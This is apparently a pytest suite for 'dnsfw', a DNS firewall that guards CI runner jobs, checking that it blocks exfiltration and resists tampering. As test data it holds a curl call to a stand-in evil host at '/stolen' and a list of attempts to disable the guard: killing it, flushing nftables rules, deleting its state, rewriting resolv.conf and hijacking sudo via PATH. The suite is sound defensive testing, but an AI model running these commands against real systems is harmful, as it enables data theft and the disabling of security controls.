"""A job on a stand-in runner: guarded from the action's first step to its last, audited or enforced."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shlex
from collections.abc import Iterator

import pytest

from dnsfw.journal.signing import verify
from dnsfw.playground import atlas
from dnsfw.playground.world import Playground, Setting
from tests.action.container import container
from tests.action.standin import NODE, ROOT, Job, Step, job

pytestmark = pytest.mark.kernel

POLICY = f"{atlas.ALLOWED_NAME}\n"
STEALS = f"curl -sS --max-time 5 https://{atlas.EVIL_SHARED_NAME}/stolen"
FETCHES = f"curl -sS --max-time 5 -o /dev/null https://{atlas.ALLOWED_NAME}/"
# What a guard may not leave behind: files, locks, rules, and who may do what.
TRACES = """
cat /etc/resolv.conf; find /run ! -path '/run/sudo*'; cd "$1/layers"; find etc/upper opt/upper var/lib/upper home/upper
ls -la /etc/sudoers /etc/sudoers.d /run/docker.sock; cat /proc/sys/user/max_user_namespaces; nft list ruleset
"""


@pytest.fixture(scope="module")
def laptop() -> Iterator[Playground]:
    with Playground(Setting()) as world:
        yield world


@pytest.fixture
def runner(laptop: Playground) -> Iterator[Job]:
    """A runner on which dnsfw was installed before."""
    with job(laptop) as made:
        made.install()
        yield made


def using(policy: str = POLICY, **inputs: str) -> Step:
    named = {name.replace("_", "-"): value for name, value in inputs.items()}
    return Step({"policy": policy, "upstream": atlas.UPSTREAM.v4, **named})


def policy_digest() -> str:
    """Of what the job said, and the presets that it asked for."""
    folder = ROOT / "dnsfw/policies/presets"
    presets = [(folder / f"{name}.policy").read_text("utf-8") for name in ("github-runner", "os-basics")]
    included = "@include github-runner\n@include os-basics\n@include workflow.policy\n"
    return hashlib.sha256("".join([included, *presets, POLICY]).encode()).hexdigest()


def begin(runner: Job, step: Step) -> None:
    for phase in ("pre", "main"):
        done = runner.phase(phase, step)
        assert done.status == 0, done.log


def test_enforced_a_step_that_turns_malicious_gets_nothing_out_and_is_named(runner: Job) -> None:
    traces = runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout
    step = using()
    begin(runner, step)
    assert runner.run(FETCHES).status == 0
    assert runner.run(STEALS, "install").status != 0
    post = runner.phase("post", step)
    assert post.status == 0, post.log
    assert "## dnsfw: 2 denied, " in step.summary
    assert "The guard was up without a gap." in step.summary
    assert "statement signed by the guard" in step.summary
    assert policy_digest() in step.summary
    row = next(line for line in step.summary.splitlines() if atlas.EVIL_SHARED_NAME in line)
    assert f"resolve {atlas.EVIL_SHARED_NAME}" in row
    assert "<code>install</code>" in row
    assert f"<code>{atlas.EVIL_SHARED_NAME}</code>" in row
    assert f"<code>{atlas.ALLOWED_NAME}</code> | 1 |" in step.summary
    assert f"::warning title=Denied%3A resolve {atlas.EVIL_SHARED_NAME}::" in post.log
    statement = next(line for line in post.log.splitlines() if line.startswith("{"))
    assert verify(statement.encode(), base64.b64decode(step.outputs["key"])).denied == 2
    assert runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout == traces


def test_audited_it_gets_out_and_the_job_is_told(runner: Job) -> None:
    step = using(policy="", mode="audit")
    begin(runner, step)
    assert runner.run(STEALS).status == 0
    assert runner.phase("post", step).status == 0
    assert "would have been denied" in step.summary


def test_the_token_is_masked_before_anything_could_show_it(runner: Job) -> None:
    step = using()
    main = runner.phase("main", step)  # a local action has no phase before
    runner.phase("post", step)
    assert main.log.startswith(f"::add-mask::{step.state['token']}\n")
    assert main.log.count(step.state["token"]) == 1
    assert len(base64.b64decode(step.outputs["key"])) == 32


@pytest.mark.parametrize(
    "attempt",
    [
        "sudo -n true",
        "sudo -n dnsfw down",
        "{dnsfw} down",
        "{dnsfw} stop",
        "{dnsfw} reload",
        "{dnsfw} sudo on",
        "DNSFW_TOKEN= {dnsfw} stop",
        "echo 0000000000000000000000000000000000 | {dnsfw} stop --token-file -",
        "cat /var/lib/dnsfw-job/job.policy",
        "echo '*.example' >> /var/lib/dnsfw-job/workflow.policy",
        "cat /var/lib/dnsfw-job/journal.jsonl",
        "rm -rf /var/lib/dnsfw-job",
        "ls /run/dnsfw",
        "kill -9 {pid}",
        "cat /proc/{pid}/environ",
        "nft flush ruleset",
        "nft list ruleset",
        "curl -s --max-time 3 --unix-socket /run/docker.sock http://engine/version",
        "echo nameserver 203.0.113.53 > /etc/resolv.conf",
        "touch {dnsfw}",
    ],
)
def test_a_later_step_can_t_turn_it_off(guarded: Job, attempt: str) -> None:
    script = attempt.format(dnsfw=guarded.program, pid=guarded.guard_pid())
    done = guarded.run(script)
    assert done.status != 0, done.log
    assert guarded.run(STEALS).status != 0
    assert guarded.run(FETCHES).status == 0


@pytest.fixture(scope="module")
def guarded() -> Iterator[Job]:
    """A runner under guard, for many attempts; its machine has no other."""
    with Playground(Setting()) as laptop, job(laptop) as made:
        made.install()
        made.open_engine_socket()
        step = using()
        begin(made, step)
        yield made
        post = made.phase("post", step)
        assert post.status == 0, post.log
        assert made.run("sudo -n true").status == 0
        assert made.run("curl -s --max-time 3 --unix-socket /run/docker.sock http://engine/version").status == 0


def test_sudo_can_be_given_back_for_a_step_and_taken_again(runner: Job) -> None:
    step = using()
    begin(runner, step)
    token = {"token": step.outputs["token"]}
    assert runner.use("action/sudo-on", token).status == 0
    assert runner.run("sudo -n true").status == 0
    assert runner.use("action/sudo-off", token).status == 0
    assert runner.run("sudo -n true").status != 0
    refused = runner.use("action/sudo-on", {"token": "0" * 64})
    assert refused.status == 1
    assert "sudo is not on" in refused.log
    assert runner.phase("post", step).status == 0


@pytest.mark.parametrize(
    ("step", "named"),
    [
        (using("no such rule!\n"), "workflow.policy:1"),
        (using("no such rule!\n", mode="audit"), "workflow.policy:1"),
        (using(policy="", policy_file="missing.policy"), "missing.policy can't be read (ENOENT)"),
        (using(presets="no-such-preset"), "no-such-preset"),
        (using(polcy="x"), "polcy"),
        (using(upstream="not-an-address"), "not-an-address"),
    ],
    ids=["policy", "policy in audit mode", "missing file", "preset", "unknown input", "upstream"],
)
def test_what_can_t_be_guarded_fails_at_once_with_the_reason_and_leaves_nothing(
    runner: Job, step: Step, named: str
) -> None:
    before = runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout
    main = runner.phase("main", step)
    assert main.status == 1
    assert "::error title=dnsfw%3A this job is not guarded::" in main.log
    assert named in main.log
    assert runner.phase("post", step).status == 0
    assert runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout == before


def test_a_guard_that_can_t_say_who_it_is_is_stopped_again(runner: Job) -> None:
    """sudo is locked by then: it takes the token."""
    before = runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout
    broken = 'real=$(readlink "$1"); rm "$1"; printf "%s" "$2" > "$1"; chmod 755 "$1"; ln -s "$real" "$1.real"'
    program = '#!/bin/sh\n[ "$1" != report ] || exit 3\nexec "$0.real" "$@"\n'
    runner.as_root("sh", "-ec", broken, "sh", runner.program, program)
    main = runner.phase("main", using())
    assert main.status == 1
    assert "report --statement ended with 3" in main.log
    assert runner.run(f"sudo -n true && {STEALS}").status == 0
    runner.as_root("sh", "-ec", 'mv "$1.real" "$1"', "sh", runner.program)
    assert runner.as_root("sh", "-c", TRACES, "sh", str(runner.folder)).stdout == before


def test_a_phase_that_was_cut_short_is_made_up_for_at_the_end(runner: Job) -> None:
    step = using()
    begin(runner, step)
    runner.phase("post", Step(step.inputs, {"token": step.state["token"]}))  # nothing else was saved
    assert runner.run(STEALS).status == 0


def test_a_guard_that_was_there_before_is_not_this_job_s_to_end(runner: Job) -> None:
    step = using()
    begin(runner, step)
    assert runner.use("action/sudo-on", {"token": step.outputs["token"]}).status == 0
    second = using()
    main = runner.phase("main", second)
    assert main.status == 1
    assert "guards this host already" in main.log
    runner.phase("post", second)
    assert runner.run(STEALS).status != 0
    runner.phase("post", step)


def test_what_a_later_step_does_to_variables_keeps_no_guard_up(runner: Job) -> None:
    step = using()
    begin(runner, step)
    assert runner.run("printf '#!/bin/sh\ntouch hijacked' > sudo; chmod +x sudo").status == 0
    post = runner.phase("post", step, {"INPUT_SURPRISE": "1", "PATH": f"{runner.workspace}:/usr/bin:/bin"})
    assert post.status == 0, post.log
    assert not (runner.workspace / "hijacked").exists()
    assert runner.run(STEALS).status == 0


def test_later_steps_trust_the_proxy_of_url_rules_until_the_end(runner: Job) -> None:
    step = using(f"https://{atlas.ALLOWED_NAME}/open/*\n")
    begin(runner, step)
    asks = f"fetch('https://{atlas.ALLOWED_NAME}/open/x').then((answer) => console.log('answered', answer.status))"
    done = runner.run(f"{shlex.quote(str(NODE))} -e {shlex.quote(asks)}")
    assert "answered" in done.log, done.log
    assert runner.run('test -r "$PIP_CERT" && test "$PIP_CERT" != /etc/ssl/certs/ca-certificates.crt').status == 0
    post = runner.phase("post", step)
    assert post.status == 0, post.log
    assert runner.run('test "$PIP_CERT" = /etc/ssl/certs/ca-certificates.crt').status == 0


def test_without_sudo_it_says_so(runner: Job) -> None:
    runner.as_root("rm", "/etc/sudoers.d/runner")
    main = runner.phase("main", using())
    assert main.status == 1
    assert "sudo" in main.log


def test_a_policy_file_of_the_workspace_with_what_it_includes(runner: Job) -> None:
    (runner.workspace / "ci.policy").write_text("@include hosts.policy\n")
    (runner.workspace / "hosts.policy").write_text(POLICY)
    step = using(policy="", policy_file="ci.policy")
    begin(runner, step)
    (runner.workspace / "hosts.policy").write_text(f"*.{atlas.EVIL_ZONE}\n")  # too late
    assert runner.run(FETCHES).status == 0
    assert runner.run(STEALS).status != 0
    assert runner.phase("post", step).status == 0


def test_denials_fail_the_job_where_that_is_wanted_and_the_journal_is_kept(runner: Job) -> None:
    step = using(fail_on_deny="true")
    begin(runner, step)
    runner.run(STEALS)
    with runner.results() as results:
        assert runner.phase("post", step, results.environ).status == 1
    (name, journal) = results.artifact()
    assert name == f"dnsfw-journal-build-1-{base64.b64decode(step.outputs['key']).hex()[:8]}"
    records = [json.loads(line) for line in journal.splitlines()]
    assert any(record.get("subject", {}).get("name") == atlas.EVIL_SHARED_NAME for record in records)


def test_a_guard_that_is_gone_at_the_end_fails_the_job_within_ten_seconds(runner: Job) -> None:
    step = using()
    begin(runner, step)
    runner.as_root("kill", "-9", str(runner.guard_pid()))
    post = runner.phase("post", step)
    assert post.status == 1
    assert "the guard is not there" in post.log
    assert re.search(r"::error title=dnsfw", post.log)
    assert post.seconds < 10
    assert runner.run(STEALS).status != 0  # closed, until somebody clears it
    runner.as_root(runner.program, "down")


def test_containers_of_the_job_are_guarded_too(runner: Job) -> None:
    """Behind a bridge with address translation, as engines make them: before the guard began, and after."""
    step = using()
    with container(runner, "br0", "172.30.0") as early:
        assert early(STEALS).returncode == 0
        begin(runner, step)
        with container(runner, "br1", "172.31.0") as late:
            for inside in (early, late):
                assert inside(STEALS).returncode != 0
                assert inside(FETCHES).returncode == 0
        post = runner.phase("post", step)
    assert post.status == 0
    assert f"resolve {atlas.EVIL_SHARED_NAME}" in step.summary
